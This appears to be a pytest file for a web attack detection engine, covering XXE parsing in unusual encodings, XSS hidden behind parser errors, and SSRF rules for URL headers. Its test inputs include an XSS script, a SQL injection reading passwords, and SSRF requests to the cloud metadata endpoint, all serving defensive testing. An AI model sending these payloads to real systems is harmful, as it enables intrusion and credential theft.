@pytest.mark.parametrize("body", R9_XML_BYTES, ids=[b[:8].hex() for b in R9_XML_BYTES])
def test_round9_xml_in_other_encodings_is_read(engine, body):
    hits = engine.inspect(req("/api/v1/import", method="POST", headers=_XML, body=body))
    assert "xxe" in types(hits), [(h.rule, h.point) for h in hits]


@pytest.mark.parametrize("carrier,key,value", R9_BENIGN, ids=[f"{c}:{v[:40]!r}" for c, _, v in R9_BENIGN])
def test_round9_near_misses_are_clean(engine, carrier, key, value):
    hits = engine.inspect(_r9(carrier, key, value))
    assert verdict(hits) == "clean", [(h.rule, h.point, h.score) for h in hits if h.score >= THRESHOLD]


@pytest.mark.parametrize("body", R9_XML_BENIGN_BYTES, ids=[b[:8].hex() for b in R9_XML_BENIGN_BYTES])
def test_round9_xml_in_other_encodings_is_clean_and_parsed(engine, body):
    hits = engine.inspect(req("/api/v1/import", method="POST", headers=_XML, body=body))
    assert verdict(hits) == "clean" and not [h for h in hits if h.rule == "parser_error"], \
        [(h.rule, h.point, h.score) for h in hits]


@pytest.mark.parametrize("codec", ["base64", "rot13", "hex", "UTF-7"])
def test_round9_an_odd_xml_encoding_hides_nothing_else(engine, codec):
    # pyexpat looks a declared encoding up in Python's codecs and raised LookupError for a bytes-to-bytes one, which
    # ended the request's extraction: the script in the query went unseen behind a 0.3 parser_error
    body = f'<?xml version="1.0" encoding="{codec}"?><r>x</r>'.encode()
    hits = engine.inspect(req("/import?q=%3Cscript%3Ealert(1)%3C/script%3E", method="POST", headers=_XML, body=body))
    assert "xss" in types(hits) and "parser_error" not in {h.rule for h in hits}, [(h.rule, h.score) for h in hits]


def test_the_analysers_skipped_on_url_headers_find_only_what_those_headers_drop():
    # The engine does not run rfi and ssrf on Referer, Origin, Host and client-address headers, since it drops those
    # types there whatever they score: exact only while those analysers report nothing else.
    from sensor.detect import Engine, rfi, ssrf
    from sensor.detect.corpus import crs_rows, httpparams_rows
    from sensor.detect.engine import _NOT_IN_HEADERS, _URL_ANALYSERS
    from sensor.detect.rawrequest import parse_raw
    from sensor.points import extract
    assert set(_URL_ANALYSERS) == {rfi, ssrf}
    values = {r["value"] for r in httpparams_rows()}
    for r in crs_rows():
        values.update(p.value for p in extract(parse_raw(r["raw"])))
    found = 0
    for v in sorted(values):
        for f in (rfi.analyze(v, "", "shop.example"), ssrf.analyze(v, "")):
            if f is not None:
                found += 1
                assert f.type in _NOT_IN_HEADERS, (v, f)
    assert found > 100
    e = Engine()
    meta = e.inspect(req("/", headers=[("Referer", "http://169.254.169.254/latest/meta-data/")]))
    assert not any(h.type in _NOT_IN_HEADERS for h in meta), meta
    sql = e.inspect(req("/", headers=[("Referer", "https://shop.example/?id=1' union select password from users--")]))
    assert any(h.type == "sqli" and h.point == ["header", "REFERER"] for h in sql), sql
    # elsewhere the same URL is still read: a header that fetches it, and a parameter
    fetch = e.inspect(req("/", headers=[("X-Api-Callback", "http://169.254.169.254/latest/meta-data/")]))
    assert any(h.type == "ssrf" for h in fetch), fetch
